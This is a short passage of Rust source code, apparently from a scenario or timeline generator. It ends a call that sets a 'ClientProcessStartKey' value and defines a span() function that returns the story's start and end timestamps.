            ("ClientProcessStartKey", json!("4503599627371022")),
        ],
        Some(&cleared),
    );
}

/// When the story begins and ends.
pub fn span() -> (At, At) {
    (at(1, 1, 55, 0), at(6, 11, 40, 1))
}
